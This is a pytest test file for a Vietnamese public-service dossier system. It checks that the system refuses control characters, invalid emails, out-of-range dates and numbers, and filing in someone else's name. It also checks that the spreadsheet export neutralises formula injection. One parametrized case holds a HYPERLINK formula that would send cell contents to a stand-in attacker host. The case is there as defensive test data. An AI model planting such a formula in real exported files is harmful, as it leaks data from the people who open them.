"""Bad input is refused at the service (so the API, the pages, the admin and the commands all
refuse it) with a clear error and nothing stored; the tracking book's XLSX shows texts as
texts (issue 6 item 5)."""

from __future__ import annotations

import io
import json
from datetime import date, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.test import Client
from openpyxl import load_workbook

from motcua.accounts.models import Role, User
from motcua.accounts.services import role_grant
from motcua.api.auth import token_create
from motcua.catalog.models import Procedure
from motcua.core.errors import PermissionDenied
from motcua.dossiers.form_schema import validate_form_data
from motcua.dossiers.models import Dossier
from motcua.dossiers.services.submission import dossier_intake_counter, dossier_submit
from motcua.dossiers.tracking_book import tracking_book_xlsx
from tests.dossiers.conftest import CITIZEN_CCCD, World, applicant

HCM = ZoneInfo("Asia/Ho_Chi_Minh")
MONDAY_9 = datetime(2026, 11, 30, 9, 0, tzinfo=HCM)
OTHER_CCCD = "079090005678"


def submit(w: World, who: str = "citizen", **overrides: Any) -> Dossier:
    dossier, _ = dossier_submit(
        actor=w.u(who),
        procedure_code=w.simple,
        agency_code=w.ward.code,
        applicant=applicant(**overrides),
        form_data={"purpose": "Đi học"},
    )
    return dossier


def intake(w: World, **overrides: Any) -> Dossier:
    return dossier_intake_counter(
        actor=w.u("reception"),
        procedure_code=w.simple,
        agency_code=w.ward.code,
        applicant=applicant(**overrides),
        form_data={"purpose": "Đi học"},
    )


def refused(fn: Any, *args: Any, **kwargs: Any) -> dict[str, list[str]]:
    before = Dossier.objects.count()
    with pytest.raises(ValidationError) as info:
        fn(*args, **kwargs)
    assert Dossier.objects.count() == before
    return info.value.message_dict


# Control characters ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("name", "An\u0001"),
        ("name", "An\x7f"),
        ("name", "An\u0085"),
        ("name", "An\nB"),
        ("address", "12 Lê Lợi\u001b[31m"),
        ("address", "12 Lê Lợi\ud800"),
        ("representative_name", "Bình\ufffe"),
        ("email", "an@example.vn\u0007"),
    ],
)
def test_control_characters_in_applicant_data_are_refused(
    world: World, field: str, value: str
) -> None:
    errors = refused(submit, world, **{field: value})
    key = f"applicant.{field}" if field == "name" else field
    assert "ký tự điều khiển" in errors[key][0], errors
    errors = refused(intake, world, **{field: value})
    assert key in errors


def test_control_characters_in_form_text_are_refused_but_line_breaks_are_kept() -> None:
    schema = [{"name": "purpose", "label": "Mục đích", "type": "text", "required": True}]
    with pytest.raises(ValidationError) as info:
        validate_form_data(schema, {"purpose": "Đi\u0001học"})
    assert "ký tự điều khiển" in info.value.message_dict["purpose"][0]
    with pytest.raises(ValidationError):
        validate_form_data(schema, {"purpose": "Đi\ufdd0học"})
    assert validate_form_data(schema, {"purpose": "Dòng 1\nDòng 2\tcột"}) == {
        "purpose": "Dòng 1\nDòng 2\tcột"
    }


def test_control_characters_in_action_texts_are_a_422(world: World) -> None:
    dossier = submit(world)
    version = dossier.version
    client = Client()
    headers = {"HTTP_AUTHORIZATION": f"Bearer {token_create(user=world.u('reception'))}"}
    for action, body in [
        ("refuse", {"reasons": ["Thiếu\u0001giấy tờ"]}),
        ("request_supplement", {"items": [{"name": "CCCD\u0002", "reason": "Mờ"}]}),
        ("request_supplement", {"items": [{"name": "CCCD", "reason": "Mờ\u0003"}]}),
    ]:
        resp = client.post(
            f"/api/v1/dossiers/{dossier.code}/actions/{action}",
            data=json.dumps(body),
            content_type="application/json",
            **headers,
        )
        assert resp.status_code == 422, (action, resp.content)
        types = {d["type"] for d in resp.json()["error"]["details"]}
        assert "control_character" in types
    dossier.refresh_from_db()
    assert dossier.status == "submitted"
    assert dossier.version == version


# Garbage that was stored -----------------------------------------------------------------------


@pytest.mark.parametrize("email", ["not-an-email", "a@b", "an@@example.vn", "an example@x.vn"])
def test_invalid_emails_are_refused(world: World, email: str) -> None:
    assert "email" in refused(submit, world, email=email)


def test_a_valid_email_is_kept(world: World) -> None:
    assert submit(world, email=" an.nguyen@example.vn ").applicant_email == "an.nguyen@example.vn"


BIRTH = [{"name": "ngay_sinh", "label": "Ngày sinh", "type": "date", "max": "today"}]


@pytest.mark.parametrize("day", ["0001-01-01", "1899-12-31", "9999-12-31", "2026-12-02"])
def test_birth_dates_outside_1900_to_today_are_refused(day: str) -> None:
    with pytest.raises(ValidationError) as info:
        validate_form_data(BIRTH, {"ngay_sinh": day}, today=date(2026, 12, 1))
    assert "ngay_sinh" in info.value.message_dict


def test_birth_dates_inside_the_bounds_are_kept() -> None:
    today = date(2026, 12, 1)
    for day in ["1900-01-01", "1985-03-12", "2026-12-01"]:
        assert validate_form_data(BIRTH, {"ngay_sinh": day}, today=today) == {"ngay_sinh": day}


def test_any_date_field_has_sane_bounds() -> None:
    schema = [{"name": "d", "label": "Ngày", "type": "date"}]
    for day in ["0001-01-01", "9999-12-31", "2026-1-1", 20260101]:
        with pytest.raises(ValidationError):
            validate_form_data(schema, {"d": day})


def test_birth_date_in_the_future_refused_by_the_service_on_the_local_date(world: World) -> None:
    """At 23:30 on 1/12 in Vietnam it is still 1/12 there (16:30 UTC); at 00:30 on 2/12 it is
    already 2/12 in Vietnam (17:30 UTC on 1/12): the bound follows the Vietnam date."""
    procedure = Procedure.objects.get(code=world.simple)
    version = procedure.current
    version.form_schema = [*version.form_schema, *BIRTH]
    version.save(update_fields=["form_schema"])
    data = {"purpose": "x", "ngay_sinh": "2026-12-02"}

    def go() -> Dossier:
        return dossier_submit(
            actor=world.u("citizen"),
            procedure_code=world.simple,
            agency_code=world.ward.code,
            applicant=applicant(),
            form_data=data,
        )[0]

    with time_machine.travel(datetime(2026, 12, 1, 23, 30, tzinfo=HCM), tick=False):
        assert "ngay_sinh" in refused(go)
    with time_machine.travel(datetime(2026, 12, 2, 0, 30, tzinfo=HCM), tick=False):
        assert go().form_data["ngay_sinh"] == "2026-12-02"


COPIES = [{"name": "so_ban", "label": "Số bản", "type": "number", "integer": True, "min": 1}]


@pytest.mark.parametrize("value", [-5, 0, 0.5, "0.5", 10**30, "1" + "0" * 30, True, [1]])
def test_copy_counts_must_be_positive_integers(value: Any) -> None:
    schema = [{**COPIES[0], "max": 100}]
    with pytest.raises(ValidationError):
        validate_form_data(schema, {"so_ban": value})


def test_numbers_are_finite_and_bounded_even_without_limits() -> None:
    schema = [{"name": "n", "label": "Số", "type": "number"}]
    for value in [float("nan"), float("inf"), "NaN", "-Infinity", "1e400", "9" * 5000, 10**16]:
        with pytest.raises(ValidationError):
            validate_form_data(schema, {"n": value})
    assert validate_form_data(schema, {"n": "2.5"}) == {"n": 2.5}
    assert validate_form_data(schema, {"n": " 3 "}) == {"n": 3}
    assert validate_form_data(schema, {"n": 10**15}) == {"n": 10**15}


def test_an_organisation_cannot_apply_for_an_individual_only_procedure(world: World) -> None:
    version = Procedure.objects.get(code=world.simple).current
    version.applicant_types = ["individual"]
    version.save(update_fields=["applicant_types"])
    business = User.objects.create_user(
        username="biz", password="x-test-pass", kind="business", tax_code="0312345673"
    )
    world.users["biz"] = business
    org = {"kind": "organisation", "name": "Công ty A", "id_number": "0312345673"}
    errors = refused(submit, world, "biz", **org)
    assert "chỉ dành cho cá nhân" in errors["applicant.kind"][0]
    assert "applicant.kind" in refused(intake, world, **org)
    version.applicant_types = ["individual", "organisation"]
    version.save(update_fields=["applicant_types"])
    assert submit(world, "biz", **org).applicant_kind == "organisation"


# Who may file in whose name --------------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.INSPECTOR, Role.RECEPTION, Role.CITY_ADMIN])
def test_an_official_cannot_file_online_in_a_citizens_name(world: World, role: str) -> None:
    official = User.objects.create_user(
        username=f"o_{role}", password="x-test-pass", kind="official", cccd=OTHER_CCCD
    )
    role_grant(user=official, agency=world.ward, role=role)
    world.users["official"] = official
    for overrides in [{}, {"id_number": OTHER_CCCD}]:
        with pytest.raises(PermissionDenied) as info:
            submit(world, "official", **overrides)
        assert info.value.code == "official_online_submission"
        assert "tại quầy" in info.value.message
    assert Dossier.objects.count() == 0


def test_the_inspectors_online_filing_does_not_show_in_the_citizens_list(world: World) -> None:
    inspector = User.objects.create_user(username="insp", password="x-test-pass", kind="official")
    role_grant(user=inspector, agency=world.city, role=Role.INSPECTOR, include_descendants=True)
    resp = Client().post(
        "/api/v1/dossiers",
        data={
            "procedure_code": world.simple,
            "agency_code": world.ward.code,
            "applicant": {"kind": "person", "name": "Nguyễn Văn An", "id_number": CITIZEN_CCCD},
            "form_data": {"purpose": "x"},
        },
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token_create(user=inspector)}",
    )
    assert resp.status_code == 403, resp.content
    assert resp.json()["error"]["code"] == "official_online_submission"
    mine = Client().get(
        "/api/v1/dossiers?queue=mine",
        HTTP_AUTHORIZATION=f"Bearer {token_create(user=world.u('citizen'))}",
    )
    assert mine.json()["count"] == 0


def test_a_citizen_cannot_file_under_another_persons_cccd(world: World) -> None:
    with pytest.raises(PermissionDenied) as info:
        submit(world, id_number=OTHER_CCCD, name="Trần Thị Bình")
    assert info.value.code == "applicant_not_caller"
    assert Dossier.objects.count() == 0


def test_a_citizen_may_file_for_another_person_as_the_recorded_representative(
    world: World,
) -> None:
    dossier = submit(
        world,
        id_number=OTHER_CCCD,
        name="Trần Thị Bình",
        representative_name="Nguyễn Văn An",
        representative_id_number=CITIZEN_CCCD,
    )
    assert dossier.representative_id_number == CITIZEN_CCCD
    assert dossier.applicant_user == world.u("citizen")


def test_an_account_without_an_identity_cannot_file_online(world: World) -> None:
    from motcua.core.errors import DomainError

    with pytest.raises(DomainError) as info:
        submit(world, "stranger")
    assert info.value.code == "identity_missing"


def test_a_business_files_for_its_own_tax_code_and_branches_only(world: World) -> None:
    version = Procedure.objects.get(code=world.simple).current
    version.applicant_types = ["individual", "organisation"]
    version.save(update_fields=["applicant_types"])
    business = User.objects.create_user(
        username="biz", password="x-test-pass", kind="business", tax_code="0312345673"
    )
    world.users["biz"] = business
    org = {"kind": "organisation", "name": "Công ty A"}
    assert submit(world, "biz", **org, id_number="0312345673").pk
    assert submit(world, "biz", **org, id_number="0312345673-001").pk
    with pytest.raises(PermissionDenied):
        submit(world, "biz", **org, id_number="0100109106")


def test_officials_file_at_the_counter_recorded_as_such(world: World) -> None:
    dossier = intake(world)
    assert dossier.channel == "counter"
    assert dossier.submitted_by == world.u("reception")
    assert dossier.applicant_user == world.u("citizen")
    assert dossier.status == "received"


# The tracking book's spreadsheet ---------------------------------------------------------------


def _xlsx_cells(world: World) -> dict[str, Any]:
    body = tracking_book_xlsx(world.ward, date(2026, 11, 30), date(2026, 11, 30))
    ws = load_workbook(io.BytesIO(body)).active
    return {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "=1+1",
    ],
)
def test_a_name_that_looks_like_a_formula_is_a_text_cell(world: World, name: str) -> None:
    with time_machine.travel(MONDAY_9, tick=False):
        intake(world, name=name)
    cells = _xlsx_cells(world)
    cell = cells[name]
    assert cell.data_type == "s", cell.data_type
    assert cell.quotePrefix is True


def test_old_rows_with_control_characters_do_not_break_the_book(world: World) -> None:
    """Rows stored before input was checked: the book still renders, without the characters."""
    with time_machine.travel(MONDAY_9, tick=False):
        dossier = intake(world)
    Dossier.objects.filter(pk=dossier.pk).update(
        applicant_name="An\u0001", applicant_address="12 Lê\u001f Lợi"
    )
    cells = _xlsx_cells(world)
    assert "An" in cells
    assert any(isinstance(v, str) and v.endswith("12 Lê Lợi") for v in cells)


def test_the_demo_forms_bound_copy_counts_and_birth_dates() -> None:
    from motcua.catalog.demo.seed import PROCEDURES

    fields = [f for row in PROCEDURES for f in row.get("form_schema", [])]
    copies = [f for f in fields if f["name"] == "so_ban"]
    births = [f for f in fields if f["name"].startswith(("ngay_sinh", "ngay_chet"))]
    assert copies
    assert births
    for spec in copies:
        for bad in (-5, 0, 0.5, 10**30):
            with pytest.raises(ValidationError):
                validate_form_data([spec], {"so_ban": bad})
        assert validate_form_data([spec], {"so_ban": 2}) == {"so_ban": 2}
    for spec in births:
        for bad in ("0001-01-01", "9999-12-31", "2026-12-02"):
            with pytest.raises(ValidationError):
                validate_form_data([spec], {spec["name"]: bad}, today=date(2026, 12, 1))
